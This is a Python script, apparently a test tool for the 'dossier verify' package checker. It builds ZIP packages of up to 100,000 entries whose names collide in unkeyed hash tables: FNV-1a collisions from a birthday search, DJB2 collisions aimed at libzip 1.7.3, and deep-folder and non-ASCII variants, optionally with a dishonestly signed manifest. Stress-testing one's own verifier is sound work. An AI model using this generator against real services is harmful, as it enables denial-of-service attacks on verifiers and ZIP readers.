#!/usr/bin/env python3
"""mkcollide.py — packages whose entry names are chosen to cost a verifier
the most: names that collide in the unkeyed hashes a ZIP reader might key its
name table with, and the same under deep folders.

Usage: mkcollide.py PKG OUT KIND [ENTRIES [KEYS]]

PKG is a valid package made by `dossier pack`; OUT gets a copy of it with
entries added (empty, stored) until it holds ENTRIES entries (default
100,000, verify's default cap), none of them in the signed manifest — an
attacker without the key. KIND:

  fnv    names colliding in the low 20 bits of the FNV-1a-64 variant of the
         name set of dossier verify up to 0.1 (an open-addressing table
         masked to a power of two): a Joux multicollision, 17 stages of a
         birthday search
  djb    names colliding in DJB2 (x33, mod 2^32), the name table of libzip
         1.7.3 (Debian 12): two-byte blocks "xa" and "y@" hash alike
  deep   the fnv names below 100 folder levels (a/a/.../a/)
  deepu  the fnv names below 180 folder levels named "é" (U+00E9): names of
         about 620 bytes (the most 100,000 names fit in the 64 MiB central
         directory), none of them ASCII, so every fold and NFC check
         goes through utf8proc

With KEYS (a `dossier keygen` folder) the manifest lists every entry and is
signed with KEYS/rsa.key: what a dishonest signer can send. A manifest is at
most 16 MiB, so ENTRIES must then stay under about 32,000.

Prints the package's size and entry count. The ZIP is written byte by byte,
one stored empty file per name.
"""
import base64
import hashlib
import itertools
import os
import random
import struct
import subprocess
import sys
import tempfile
import urllib.parse
import zipfile
import zlib

# the constants of the name set dossier verify used up to 0.1 (its offset
# basis lacks the last digit of FNV's 14695981039346656037)
FNV_OFF, FNV_PRIME, MASK = 1469598103934665603, 0x100000001B3, (1 << 20) - 1
ALPHA = b"abcdefghijklmnopqrstuvwxyz0123456789"


def fnv(h, data):
    for c in data:
        h = ((h ^ c) * FNV_PRIME) & 0xFFFFFFFFFFFFFFFF
    return h


def fnv_blocks(prefix, stages, rnd):
    """For each stage two 4-byte blocks that lead from the same state to
    states equal in their low 20 bits (what a table of up to 2^20 slots
    sees), so any choice of one block per stage collides."""
    h = fnv(FNV_OFF, prefix) & MASK
    out = []
    for _ in range(stages):
        seen = {}
        while True:
            b = bytes(rnd.choice(ALPHA) for _ in range(4))
            s = fnv(h, b) & MASK
            if s in seen and seen[s] != b:
                out.append((seen[s], b))
                h = s
                break
            seen[s] = b
    return out


def names(kind, count):
    rnd = random.Random(15)
    if kind == "djb":
        blocks = [(b"xa", b"y@")] * 17
        prefix = b"evidence/"
    else:
        deep = {"deep": b"a/" * 100, "deepu": "\u00e9/".encode() * 180}
        prefix = deep.get(kind, b"") + b"evidence/"
        blocks = fnv_blocks(prefix, 17, rnd)
    for choice in itertools.islice(itertools.product(*blocks), count):
        yield prefix + b"".join(choice) + b".pdf"


def sign(meta, added, keys):
    """META-INF with a manifest listing the added entries too, signed."""
    man = meta[b"META-INF/ASiCManifest.xml"].decode()
    at = man.index("  <ASiCManifestExtensions")
    empty = base64.b64encode(hashlib.sha256(b"").digest()).decode()
    blocks = "".join(
        '  <DataObjectReference URI="%s" MimeType="application/pdf">\n'
        '    <ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/>\n'
        '    <ds:DigestValue>%s</ds:DigestValue>\n'
        '    <DataObjectReferenceExtensions>\n'
        '      <Extension Critical="false">\n'
        '        <d:entry size="0" role="evidence" supports=""/>\n'
        '      </Extension>\n'
        '    </DataObjectReferenceExtensions>\n'
        '  </DataObjectReference>\n' % (urllib.parse.quote(n.decode(), safe="/"), empty)
        for n in added)
    man = (man[:at] + blocks + man[at:]).encode()
    tmp = tempfile.mkdtemp(prefix="mkcollide-")
    m, p7 = os.path.join(tmp, "m.xml"), os.path.join(tmp, "s.p7s")
    open(m, "wb").write(man)
    subprocess.run(["openssl", "cms", "-sign", "-binary", "-md", "sha256", "-nosmimecap",
                    "-cades", "-in", m, "-signer", os.path.join(keys, "rsa.pem"), "-inkey",
                    os.path.join(keys, "rsa.key"), "-certfile", os.path.join(keys, "chain.pem"),
                    "-outform", "DER", "-out", p7], check=True)
    sig = open(p7, "rb").read()
    return [(b"META-INF/ASiCManifest.xml", man, 8, 0x0800),
            (b"META-INF/signature.p7s", sig, 0, 0x0800)]


def main():
    src, out, kind = sys.argv[1:4]
    total = int(sys.argv[4]) if len(sys.argv) > 4 else 100000
    z = zipfile.ZipFile(src)
    orig = [(i.filename.encode(), z.read(i.filename), i.compress_type, i.flag_bits)
            for i in z.infolist()]
    body, central = bytearray(), bytearray()

    def add(name, data, method, flags):
        comp = data if method == 0 else zlib.compress(data, 6)[2:-4]
        crc = zlib.crc32(data)
        off = len(body)
        body.extend(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0x5C21, crc,
                                len(comp), len(data), len(name), 0) + name + comp)
        central.extend(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x0314, 20, flags, method,
                                   0, 0x5C21, crc, len(comp), len(data), len(name), 0, 0, 0, 0,
                                   0o100644 << 16, off) + name)

    meta = [e for e in orig if e[0].startswith(b"META-INF/")]
    for e in orig:
        if not e[0].startswith(b"META-INF/"):
            add(*e)
    n = total - len(orig)
    added = list(names(kind, n))
    for name in added:
        add(name, b"", 0, 0x0800)
    if len(sys.argv) > 5:
        meta = sign(dict((e[0], e[1]) for e in meta), added, sys.argv[5])
    for e in meta:
        add(*e)
    count = len(orig) + n
    cd = len(body)
    body += central
    rec = len(body)
    body += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 0x032D, 45, 0, 0, count, count,
                        len(central), cd)
    body += struct.pack("<IIQI", 0x07064B50, 0, rec, 1)
    body += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, len(central), cd, 0)
    open(out, "wb").write(body)
    print(len(body), count)


if __name__ == "__main__":
    main()
